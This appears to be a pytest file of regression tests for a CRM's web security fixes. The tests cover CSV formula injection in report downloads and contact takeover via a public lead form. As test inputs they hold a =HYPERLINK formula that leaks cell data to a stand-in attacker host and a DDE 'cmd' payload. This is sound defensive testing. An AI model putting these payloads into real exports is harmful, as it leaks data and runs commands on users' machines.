"""The holes of the web security review (issue 29), each reproduced and shown closed."""
from __future__ import annotations

import csv
import io

import pytest

from crmcore.testing import make_customer

from .conftest import login

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&C2,"open")'


# --- hole 2: formula injection in web CSV downloads -----------------------------------------------
@pytest.mark.crm_plugins("pipeline")
def test_report_downloads_quote_formulas(client, users, crm_app):
    from crmcore_pipeline.deals import create_deal

    cid = make_customer(crm_app, HYPERLINK)
    with crm_app.unit_of_work() as uow:
        create_deal(uow, customer=cid, title="@SUM(1+1)*cmd|' /C calc'!A0", amount="1000")
    crm_app.clock.advance(days=30)
    login(client, "viewer")
    download = client.get("/reports/pipeline.stale.csv")
    assert download.status_code == 200
    rows = list(csv.DictReader(io.StringIO(download.text.lstrip("\ufeff"))))
    assert rows[0]["customer"] == "'" + HYPERLINK
    assert rows[0]["title"] == "'@SUM(1+1)*cmd|' /C calc'!A0"


# --- hole 1: contact takeover through the lead form -----------------------------------------------
def held_lead(client, crm_app, **fields) -> int:
    from sqlalchemy import select

    from crmcore.storage.models import PendingLead

    from .test_public_form import send

    assert send(client, **fields).status_code == 200
    with crm_app.unit_of_work(readonly=True) as uow:
        return uow.session.scalars(select(PendingLead.id).order_by(PendingLead.id.desc())).first()


def contacts(app, cid):
    from crmcore.storage.models import Customer

    with app.unit_of_work(readonly=True) as uow:
        c = uow.session.get(Customer, cid)
        return [p.e164 for p in c.phones], [e.email for e in c.emails], sorted(t.tag for t in c.tags)


def test_pending_leads_are_accepted_or_rejected_from_the_cli(crm_app_factory, make_client, crm_cli):
    from crmcore.api import hookimpl

    from .test_api import audit

    heard = []

    class Pipeline:
        @hookimpl
        def crm_web_lead_received(self, uow, customer, created, form):
            heard.append((customer.id, created, form["email"]))

    app = crm_app_factory(extra_plugins=[("pipeline_stub", Pipeline(), None)])
    client = make_client(app)
    cid = make_customer(app, "مریم رضایی", phones=["09121234567"])
    first = held_lead(client, app, name="مریم", phone="09121234567", email="maryam@example.ir", message="سلام")
    second = held_lead(client, app, name="x", phone="09121234567", email="thief@evil.example")
    assert heard == [] and contacts(app, cid) == (["+989121234567"], [], [])
    listed = crm_cli("customers", "leads", "list", "--json")
    assert listed.exit_code == 0
    assert [(r["id"], r["matched_by"], r["email"], r["customer"]["id"]) for r in listed.json()] == [
        (first, "phone", "maryam@example.ir", cid), (second, "phone", "thief@evil.example", cid)]
    text = crm_cli("customers", "leads", "list").stdout
    assert f"matches customer #{cid} مریم رضایی by phone" in text and "{" not in text
    assert crm_cli("customers", "leads", "reject", str(second)).exit_code == 0
    from crmcore.services.leads import accept_lead

    with app.unit_of_work(actor="sara") as uow:  # this app has the plugin listening
        accept_lead(uow, first)
    assert contacts(app, cid) == (["+989121234567"], ["maryam@example.ir"], ["lead"])
    assert heard == [(cid, False, "maryam@example.ir")]
    assert "accepted" in crm_cli("customers", "leads", "accept", str(held_lead(
        client, app, name="x", phone="09121234567", email="maryam@example.ir"))).stdout
    again = crm_cli("customers", "leads", "accept", str(second))
    assert again.exit_code == 1 and "no pending lead" in again.stderr
    assert crm_cli("customers", "leads", "list", "--json").json() == []
    trail = [(actor, action) for actor, action, entity in audit(app) if entity == "pending_lead"]
    assert [action for _actor, action in trail] == ["hold", "hold", "reject", "accept", "hold", "accept"]
    assert trail[0] == ("public-form", "hold") and trail[3] == ("sara", "accept")


def test_pending_leads_are_reviewed_on_a_page_with_csrf(client, users, crm_app):
    cid = make_customer(crm_app, "مریم رضایی", emails=["maryam@example.ir"])
    lead = held_lead(client, crm_app, name="مریم", phone="09121234567", email="maryam@example.ir")
    csrf = login(client, "viewer")
    assert client.get("/leads").status_code == 403
    client.post("/logout", data={"csrf_token": csrf})
    csrf = login(client, "agent")
    page = client.get("/leads")
    assert page.status_code == 200 and f'data-lead="{lead}"' in page.text and "+989121234567" in page.text
    assert client.post(f"/leads/{lead}/accept").status_code == 403  # no CSRF token
    assert contacts(crm_app, cid) == ([], ["maryam@example.ir"], [])
    done = client.post(f"/leads/{lead}/accept", data={"csrf_token": csrf})
    assert done.status_code == 200 and f'data-lead="{lead}"' not in done.text
    assert contacts(crm_app, cid) == (["+989121234567"], ["maryam@example.ir"], ["lead"])
    gone = client.post(f"/leads/{lead}/reject", data={"csrf_token": csrf})
    assert gone.status_code == 422 and "no pending lead" in gone.text


def test_forgetting_a_customer_drops_their_pending_leads(client, crm_app, crm_cli):
    cid = make_customer(crm_app, "مریم رضایی", phones=["09121234567"])
    held_lead(client, crm_app, name="مریم", phone="09121234567", email="maryam@example.ir")
    assert crm_cli("customers", "forget", str(cid), "--yes").exit_code == 0
    assert crm_cli("customers", "leads", "list", "--json").json() == []
